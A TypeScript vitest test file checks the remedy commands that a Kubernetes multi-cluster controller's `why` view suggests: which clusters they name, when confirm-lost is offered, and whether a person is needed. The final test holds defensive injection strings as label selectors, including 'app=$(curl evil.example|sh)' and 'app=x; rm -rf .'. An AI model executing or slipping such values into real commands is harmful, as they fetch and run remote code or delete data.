/** The remedies of `why` come from the same evidence as its sentence: compared for every reason in the transcripts. */
import { readdirSync, readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { CrossClusterStatefulsetStatus } from "../../../api/index.ts";
import type { KubeObject } from "../../../kube/index.ts";
import { replay, Transcript } from "../../../plan/check/testing/transcript.ts";
import { REASONS, type Waiting } from "../../../rollout/index.ts";
import { guideOf } from "./reasons.ts";
import { type Why, whyOf } from "./view.ts";

const folder = new URL("../../../plan/check/transcripts/", import.meta.url);
const OBJECT: KubeObject = { apiVersion: "v1", kind: "Test", metadata: { name: "xline", namespace: "default" } };

/** Reasons that only the planner of DistributedApplication gives; its own transcripts show them. */
const OF_APPLICATIONS: readonly string[] = ["FailedOver", "NoClusters", "WaitingForHook"];

interface Given {
  readonly file: string;
  readonly waiting: Waiting;
  readonly clusters: readonly string[];
}

/** Each reason once with each cluster, message and evidence. */
const given: Given[] = readdirSync(folder)
  .filter((file) => file.endsWith(".txt"))
  .flatMap((file) => {
    const transcript = new Transcript();
    replay(readFileSync(new URL(file, folder), "utf8"), transcript);
    const { bench } = transcript;
    const clusters = [...new Set([...Object.keys(bench.intent.fleet), ...Object.keys(bench.ledger.clusters)])];
    const seen = new Map(bench.reasons.map((waiting) => [JSON.stringify(waiting), waiting]));
    return [...seen.values()].map((waiting) => ({ file, waiting, clusters }));
  });

/** As the controller writes it: in the cluster's row if there is one, otherwise for the application. */
function why({ waiting, clusters }: Given): Why {
  const { code, cluster, message, remedy } = waiting;
  const evidence = waiting.evidence.map(({ object, field, value }) => ({ object, field, value }));
  const said = { reason: code, message: `${message}. ${remedy}`, evidence };
  const status: CrossClusterStatefulsetStatus =
    cluster === undefined
      ? { ...said, step: { cluster: clusters[0] ?? "" } }
      : {
          step: { cluster: clusters[0] ?? "" },
          clusters: clusters.map((name) => (name === cluster ? { name, ...said } : { name })),
        };
  return whyOf({ program: "lockstep", object: OBJECT, spec: undefined, status, ledger: undefined });
}

const names = (text: string, clusters: readonly string[]) =>
  clusters.filter((cluster) => new RegExp(`(^|[^A-Za-z0-9])${cluster}($|[^A-Za-z0-9])`).test(text));

/** Commands that change something for one cluster, with that cluster: `confirm-lost a`. */
const acts = (text: string) => [...text.matchAll(/\b(confirm-lost|confirm-drain|undrain) (\w+)/g)].map(([act]) => act);

describe("the remedy of every reason", () => {
  it("is checked for every existing reason", () => {
    const codes = new Set(given.map(({ waiting }) => waiting.code));
    const others = new Set(OF_APPLICATIONS);
    expect([...codes].sort()).toEqual(
      Object.keys(REASONS)
        .filter((code) => !others.has(code))
        .sort(),
    );
  });

  it.each(Object.keys(REASONS))("%s: names only clusters that the sentence or the evidence names", (code) => {
    for (const each of given.filter(({ waiting }) => waiting.code === code)) {
      const { waiting, clusters, file } = each;
      const { remedy, sentence } = why(each);
      const evidence = waiting.evidence.flatMap(({ object, value }) => [object, value]).join(" ");
      const spoken = names(`${sentence} ${evidence}`, clusters);
      for (const command of [...remedy, waiting.remedy]) {
        const strangers = names(command, clusters).filter((name) => !spoken.includes(name) && name !== waiting.cluster);
        expect(strangers, `${file}: '${command}' after '${sentence}'`).toEqual([]);
      }
    }
  });

  it.each(Object.keys(REASONS))("%s: acts on the cluster of the planner's own remedy, or on none", (code) => {
    for (const each of given.filter(({ waiting }) => waiting.code === code)) {
      const { waiting, file } = each;
      const { remedy, needsPerson, sentence } = why(each);
      const offered = acts(remedy.join("\n"));
      const told = acts(waiting.remedy);
      expect(told, `${file}: ${remedy.join("; ")} after '${sentence}'`).toEqual(expect.arrayContaining(offered));
      if (needsPerson) expect(offered, `${file}: ${sentence}`).toEqual(told);
    }
  });
});

it("if member1 waits for evidence of the loss of member3, why offers to confirm the loss of member3", () => {
  const waiting: Waiting = {
    code: "WaitingForLossEvidence",
    cluster: "member1",
    message: "its new instances would replace those of member3, which may still be alive",
    evidence: [{ object: "cluster member3", field: "instances", value: "1, not confirmed removed" }],
    remedy: "Have the application remove the old members, or run 'lockstep confirm-lost member3'.",
  };
  const { remedy } = why({ file: "", waiting, clusters: ["member1", "member2", "member3"] });
  expect(remedy).toContain("lockstep confirm-lost member3 xline -n default");
  expect(remedy.join()).not.toContain("member1");
});

it("confirm-lost is not offered again once the loss has been confirmed", () => {
  const lost = given.filter(({ waiting }) => waiting.code === "ClusterLost");
  const confirmed = lost.filter(({ waiting }) => waiting.evidence.some(({ value }) => value === "given up as lost"));
  expect(confirmed.length).toBeGreaterThan(0);
  expect(lost.length).toBeGreaterThan(confirmed.length);
  for (const each of confirmed) expect(why(each).remedy.join()).not.toContain("confirm-lost");
});

it.each([
  ["ScheduleUnknown", false],
  ["HealthUnknown", false],
  ["ClusterCordoned", false],
  ["NoRoom", false],
  ["WaitingForLossEvidence", false],
  ["ReplacementUnplaceable", false],
  ["Partitioned", false],
  ["PartitionIndivisible", false],
  ["ReleaseUnreachable", true],
  ["ReconcileFailed", false],
])("why and the controller agree on whether %s needs a user: %s", (code, needsPerson) => {
  expect(guideOf(code)?.needsPerson).toBe(needsPerson);
});

it("a selector that an owner has written as a shell command is not pasted; one of labels is", () => {
  const pasted = (selector: string) => {
    const row = { name: "a", reason: "WaitingForReady", message: "", evidence: [] };
    const status: CrossClusterStatefulsetStatus = { selector, clusters: [row] };
    return whyOf({ program: "lockstep", object: OBJECT, spec: undefined, status, ledger: undefined }).remedy.join("\n");
  };
  expect(pasted("app=web,app.kubernetes.io/part-of=shop_1")).toContain(" -l app=web,app.kubernetes.io/part-of=shop_1");
  for (const selector of ["app=$(curl evil.example|sh)", "app=x; rm -rf .", "app=x\nrm", "app in (a)", "app=`id`"]) {
    expect(pasted(selector)).toMatch(/get pods$/m);
  }
});
